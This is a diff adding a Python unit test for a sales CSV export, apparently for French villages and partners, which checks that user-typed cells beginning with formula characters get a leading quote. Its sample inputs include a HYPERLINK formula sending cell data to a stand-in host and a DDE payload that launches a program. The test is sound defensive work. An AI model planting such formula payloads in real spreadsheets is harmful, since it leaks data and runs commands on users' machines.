@@ -105,6 +105,27 @@ def test_every_table_exports_as_csv_for_french_excel():
     assert sales == [["Village", "Partenaire", "Ventes (€)"], ["Le Bourg-aux-Chênes", "Fromagerie", "45,50"]]
 
 
+def test_csv_cells_typed_by_people_never_run_as_formulas():
+    """Issue 21: a partner's or a village's name starting with `= + - @`, a tab or a carriage return
+    is written with a quote in front (OWASP); plain numbers, negative ones too, stay numbers."""
+    typed = ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "+33 6 12 34 56 78", "-1+cmd|' /C calc'!A0",
+             "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+    orders = Answers({"figures": {"a": {"orders": 2, "sales_cents": -1250}},
+                      "details": {"sales_by_partner": [{"village_id": "a", "partner_id": f"p{n}", "partner_name": name,
+                                                        "sales_cents": 100} for n, name in enumerate(typed)]}})
+    result = F.collect(_services(orders), date(2026, 11, 1), date(2026, 11, 30), None,
+                       [{"id": "a", "name": "=1+1"}, {"id": "b", "name": "Saint-Aubin-des-Prés"}])
+    tables = exports.csv_tables(result)
+    sales = list(csv.reader(io.StringIO(exports.to_csv(*tables["sales_by_partner"]).decode("utf-8-sig")),
+                            delimiter=";"))
+    assert [row[1] for row in sales[1:]] == ["'" + name for name in typed]
+    assert all(row[0] == "'=1+1" for row in sales[1:])
+    villages = list(csv.reader(io.StringIO(exports.to_csv(*tables["villages"]).decode("utf-8-sig")), delimiter=";"))
+    assert villages[1][:3] == ["'=1+1", "2", "-12,50"], "a negative figure stays a number"
+    assert exports.to_csv(["=A"], [[-3, 2.5, None, "-", "Fromagerie"]]).decode("utf-8-sig") == (
+        "'=A\r\n-3;2.5;;'-;Fromagerie\r\n")
+
+
 def test_a_period_is_read_from_the_query_with_errors_by_field():
     assert F.parse_period({"du": "2026-11-01", "au": "2026-11-30"}) == (date(2026, 11, 1), date(2026, 11, 30), {})
     assert set(F.parse_period({"du": "01/11/2026", "au": "2026-11-30"})[2]) == {"du"}
